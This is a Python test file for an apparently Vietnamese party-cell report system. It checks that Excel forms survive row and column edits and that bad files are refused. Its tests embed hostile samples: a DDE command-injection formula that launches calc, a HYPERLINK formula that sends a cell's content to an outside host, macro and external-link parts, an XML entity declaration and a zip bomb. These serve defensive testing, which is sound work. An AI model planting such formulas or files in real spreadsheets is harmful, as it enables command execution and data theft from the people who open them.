"""Excel forms of reports: what goes out comes back, whatever people do to rows and columns; bad files are refused."""

from __future__ import annotations

import zipfile
from datetime import datetime, time
from decimal import Decimal
from io import BytesIO
from time import process_time

import pytest
from openpyxl import Workbook, load_workbook

from congtac.config import load
from congtac.documents.reports import excel as report_excel
from congtac.documents.reports import excel_reader as report_excel_reader
from congtac.documents.reports.excel import FIGURES, TEXTS
from congtac.documents.reports.workbook import MAX_SHEETS
from congtac.domain.cycle import CycleKind
from congtac.domain.errors import BadInput
from congtac.domain.figures import Figure, Qualifier
from congtac.domain.report_answers import Absence
from congtac.domain.report_form import Column, Field
from congtac.domain.report_sheet import Identity, read_sheet
from congtac.messages import sentence
from congtac.resources import shipped

MINE = Identity("review", "kỳ/2023", "chi_bo_1", "Chi bộ số 1", "6 tháng đầu năm 2023")
TOTAL = Field("members_total", Column.RESULT)


@pytest.fixture(scope="module")
def form():
    installation = load(shipped("config"))
    return installation.report_form(CycleKind.HALF_YEAR_REVIEW, installation.of_level("chi_bo"))


@pytest.fixture
def filled(form, tmp_path):
    """A form, edited by a function, as a file."""

    def made(edit=lambda _book: None, known=None):
        book = load_workbook(BytesIO(report_excel.write(form, MINE, known or {})))
        edit(book)
        path = tmp_path / "bao-cao.xlsx"
        book.save(path)
        return path

    return made


def row_of(sheet, key):
    return next(row for row in range(1, 200) if sheet.cell(row, 1).value == key)


def put(**values):
    """Fill in the result of some lines."""

    def edit(book):
        for key, value in values.items():
            sheet = book[FIGURES]
            sheet.cell(row_of(sheet, key), 6).value = value

    return edit


def read(path, form):
    return read_sheet(form, report_excel_reader.read(path, form))


def test_a_form_that_nobody_touched_comes_back_with_what_was_known(filled, form):
    known = {
        TOTAL: Figure(Decimal(35)),
        Field("members_total", Column.LAST_YEAR): Figure(Decimal(33)),
        Field("candidates", Column.PLAN): Figure(Decimal(12), Qualifier.ABOUT),
        Field("members_died", Column.RESULT): Absence.NIL,
        Field("meeting_rate", Column.PLAN): Figure(Decimal(90), percent=True),
        Field("emulation_signed", Column.RESULT): True,
        Field("shortcomings", Column.RESULT): "Sinh hoạt chuyên đề còn ít.",
    }
    path = filled(known=known)

    assert read(path, form) == (known, [])
    assert report_excel_reader.read(path, form).identity == MINE


def test_a_form_saved_by_libreoffice_comes_back_with_rates_and_formulas_as_people_see_them(
    filled, form, saved_by_libreoffice
):
    def fill(book):
        put(members_total=34, staff_total=40, members_share="=F9/40", candidates="=5+7", study_papers="hơn 12")(book)
        book[FIGURES].cell(row_of(book[FIGURES], "members_share"), 6).number_format = "0.00%"

    path = filled(fill)
    path.write_bytes(saved_by_libreoffice(path.read_bytes(), "xlsx"))

    answers, problems = read(path, form)
    assert problems == []
    assert {at.line: str(one) for at, one in answers.items()} == {
        "members_total": "34",
        "staff_total": "40",
        "members_share": "85,00%",
        "candidates": "12",
        "study_papers": "hơn 12",
    }
    assert report_excel_reader.read(path, form).identity == MINE


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.vn/?"&C3,"Báo cáo")', "+84 việc", "-1+1", "@SUM(A1)"])
def test_a_text_that_excel_would_compute_stays_a_text_out_and_back(filled, form, text):
    known = {Field("shortcomings", Column.RESULT): text}
    named = Identity("review", "kỳ/2023", "chi_bo_1", "=cmd|'/c calc'!A1", text)

    book = load_workbook(BytesIO(report_excel.write(form, named, known)))

    assert "f" not in {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert read(filled(known=known), form) == (known, [])


def test_an_empty_form_is_a_form_with_no_answers(filled, form):
    assert read(filled(), form) == ({}, [])


def test_every_field_of_the_form_can_be_filled_in_and_read_back(filled, form):
    def everywhere(book):
        for sheet, first in ((book[FIGURES], 5), (book[TEXTS], 4)):
            for row in range(7, sheet.max_row + 1):
                for column in range(first, 9 if sheet is book[FIGURES] else 5):
                    if sheet.cell(row, 1).value and not sheet.cell(row, column).protection.locked:
                        sheet.cell(row, column).value = "không có"

    answers, problems = read(filled(everywhere), form)

    assert set(answers) == set(form.fields)
    assert problems == []


def test_the_same_form_gives_the_same_bytes(form):
    assert report_excel.write(form, MINE, {}) == report_excel.write(form, MINE, {})


def test_rows_that_are_moved_and_columns_that_are_inserted_take_their_keys_along(filled, form):
    def move(book):
        sheet = book[FIGURES]
        put(members_total=35, meetings_held=6)(book)
        sheet.insert_rows(8)
        sheet.insert_cols(5)
        sheet.cell(7, 5).value = "cột của tôi"

    answers, _ = read(filled(move), form)

    assert {at: str(one) for at, one in answers.items()} == {
        TOTAL: "35",
        Field("meetings_held", Column.RESULT): "6",
    }


def test_without_the_hidden_keys_the_words_of_the_form_are_enough(filled, form):
    def strip(book):
        put(members_total=35)(book)
        book[FIGURES].delete_rows(1)
        book[FIGURES].delete_cols(1)

    answers, _ = read(filled(strip), form)

    assert answers == {TOTAL: Figure(Decimal(35))}


def renamed(book, *, keyed):
    """The column of results with a head of the unit's own, with its hidden key or with no keys at all."""
    put(members_total=35)(book)
    book[FIGURES].cell(6, 6).value = "Số liệu của tôi"
    if not keyed:
        book[FIGURES].delete_rows(1)


def test_a_renamed_column_is_known_by_its_key(filled, form):
    assert read(filled(lambda book: renamed(book, keyed=True)), form) == ({TOTAL: Figure(Decimal(35))}, [])


def test_a_renamed_column_without_its_key_is_not_guessed_but_told_with_what_stands_in_it(filled, form):
    answers, (finding,) = read(filled(lambda book: renamed(book, keyed=False)), form)

    assert answers == {}
    assert (finding.code, finding.where) == ("report.unknown_column", "Số liệu, ô F8")
    assert "số liệu của tôi" in sentence(finding)


def test_a_column_whose_key_was_deleted_is_known_by_its_words(filled, form):
    def strip(book):
        put(members_total=35)(book)
        book[FIGURES].cell(1, 6).value = None

    assert read(filled(strip), form) == ({TOTAL: Figure(Decimal(35))}, [])


@pytest.mark.parametrize(
    ("value", "shown_as", "read_as"),
    [(0.8503, "0.00%", "85,03%"), (0.85034, "0%", "85%"), (85.03, "General", "85,03%"), (1, "0%", "100%")],
)
def test_a_rate_that_excel_keeps_as_a_share_is_read_as_people_see_it(filled, form, value, shown_as, read_as):
    def fill(book):
        put(members_share=value)(book)
        book[FIGURES].cell(row_of(book[FIGURES], "members_share"), 6).number_format = shown_as

    answers, problems = read(filled(fill), form)

    assert (str(answers[Field("members_share", Column.RESULT)]), problems) == (read_as, [])


def test_a_number_that_is_shown_in_points_is_no_count(filled, form):
    def fill(book):
        put(members_total=0.12)(book)
        book[FIGURES]["F9"].number_format = "0%"

    _, (finding,) = read(filled(fill), form)

    assert (finding.code, finding.found) == ("report.percent_for_a_count", "12%")


@pytest.mark.parametrize("damage", [lambda part: part[:2000], lambda _: b"\xff\xfe<"])
def test_a_sheet_that_is_damaged_within_is_told_in_a_sentence(filled, form, tmp_path, damage):
    path, broken = filled(put(members_total=35)), tmp_path / "hong.xlsx"
    with zipfile.ZipFile(path) as whole, zipfile.ZipFile(broken, "w") as package:
        for name in whole.namelist():
            part = whole.read(name)
            package.writestr(name, damage(part) if name.startswith("xl/worksheets/sheet1") else part)

    with pytest.raises(BadInput) as refused:
        report_excel_reader.read(broken, form)

    assert all(sentence(finding) for finding in refused.value.findings)


@pytest.mark.parametrize(
    ("typed", "read_as"),
    [("1.200", "1.200"), (1200, "1.200"), (1200.0, "1.200"), ("hơn 4.600", "hơn 4.600"), ("02", "2")],
)
def test_numbers_are_read_as_people_type_them(filled, form, typed, read_as):
    answers, problems = read(filled(put(members_total=typed)), form)

    assert (str(answers[TOTAL]), problems) == (read_as, [])


@pytest.mark.parametrize("typed", ["1,200", "một nghìn hai trăm", 1.2, datetime(2023, 6, 30), time(6, 30), "12%"])  # noqa: DTZ001 - a cell has no zone
def test_what_may_be_read_in_two_ways_or_in_none_is_told_with_its_cell(filled, form, typed):
    answers, (finding,) = read(filled(put(members_total=typed)), form)

    assert TOTAL not in answers
    assert finding.where == "members_total.result"
    assert finding.figures["place"] == "Số liệu, ô F9"
    assert sentence(finding)


def test_an_explanation_beside_a_line_goes_with_its_cells(filled, form):
    def explain(book):
        put(members_total=35)(book)
        book[FIGURES].cell(row_of(book[FIGURES], "members_total"), 9).value = "chuyển đến 5 đồng chí"

    sheet = report_excel_reader.read(filled(explain), form)

    assert sheet.explanations[TOTAL] == "chuyển đến 5 đồng chí"


def test_a_formula_that_was_never_computed_and_one_that_draws_on_another_file_are_told(filled, form):
    path = filled(put(members_total="=5+7", meetings_held="=[2]Sheet1!A1"))

    answers, problems = read(path, form)

    assert answers == {}
    assert [one.code for one in problems] == ["report.formula_not_computed", "report.formula_links"]


def test_a_key_that_stands_twice_is_told_with_both_places(filled, form):
    def twice(book):
        put(members_total=35)(book)
        sheet = book[FIGURES]
        sheet.cell(sheet.max_row + 1, 1).value = "members_total"
        sheet.cell(sheet.max_row, 6).value = 36

    _, (finding,) = read(filled(twice), form)

    assert finding.code == "report.field_twice"
    assert finding.figures["other"] == "Số liệu, ô F9"


def test_merged_cells_are_read_by_their_first_cell(filled, form):
    def merge(book):
        put(members_total=35)(book)
        book[FIGURES].merge_cells("F9:G9")

    answers, problems = read(filled(merge), form)

    assert (answers, problems) == ({TOTAL: Figure(Decimal(35))}, [])


def with_part(path, name, content):
    with zipfile.ZipFile(path, "a") as package:
        package.writestr(name, content)
    return path


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("xl/vbaProject.bin", "report.macros"),
        ("xl/externalLinks/externalLink1.xml", "report.links"),
        ("xl/connections.xml", "report.links"),
        ("xl/other.xml", "report.not_a_workbook"),
    ],
)
def test_macros_links_and_declarations_are_refused_before_anything_is_read(filled, form, part, code):
    path = with_part(
        filled(put(members_total=35)), part, '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' if "other" in part else "a"
    )

    with pytest.raises(BadInput) as refused:
        report_excel_reader.read(path, form)

    assert code in [finding.code for finding in refused.value.findings]


def test_a_sheet_with_a_million_rows_is_refused_at_the_limit(filled, form):
    path = filled(lambda book: book[FIGURES].cell(1_000_000, 3, "x"))

    with pytest.raises(BadInput, match=r"report\.too_many_rows"):
        report_excel_reader.read(path, form)


def test_a_cell_far_to_the_right_in_every_row_costs_no_more_than_one_of_the_form(filled, form):
    def far(book):
        for row in range(10, 1_990):
            book[FIGURES].cell(row, 16_384, "x")

    started = process_time()
    assert read(filled(far), form) == ({}, [])
    assert process_time() - started < 3  # filled up with empty cells each row took twenty times as long


def test_more_sheets_than_a_form_ever_has_are_told(filled, form):
    def sheets(number):
        return lambda book: [book.create_sheet() for _one in range(number - len(book.sheetnames))]

    assert read(filled(sheets(MAX_SHEETS)), form) == ({}, [])
    with pytest.raises(BadInput, match=r"report\.too_many_sheets"):
        read(filled(sheets(MAX_SHEETS + 1)), form)


def test_one_row_of_a_hundred_thousand_cells_is_refused_before_it_is_read(filled, form):
    cells = '<c r="A1" t="inlineStr"><is><t>1</t></is></c>' * 40_000
    sheet = f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>"
    path = with_part(filled(), "xl/worksheets/sheet4.xml", sheet)

    with pytest.raises(BadInput, match=r"package\.too_many_elements"):
        report_excel_reader.read(path, form)


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path, form):
    path = tmp_path / "bom.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/workbook.xml", b"0" * (30 << 20))

    with pytest.raises(BadInput, match=r"package\.ratio"):
        report_excel_reader.read(path, form)


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04 nothing", b"TT;Noi dung\n1;2\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]
)
def test_what_is_no_workbook_is_told_in_a_sentence(tmp_path, form, content):
    path = tmp_path / "x.xlsx"
    path.write_bytes(content)

    with pytest.raises(BadInput) as refused:
        report_excel_reader.read(path, form)

    assert all(sentence(finding) for finding in refused.value.findings)


def test_somebodys_own_workbook_has_no_field_of_the_form(tmp_path, form):
    book = Workbook()
    book.active["A1"] = "Danh sách"
    book.save(tmp_path / "x.xlsx")

    with pytest.raises(BadInput, match=r"report\.no_fields"):
        report_excel_reader.read(tmp_path / "x.xlsx", form)
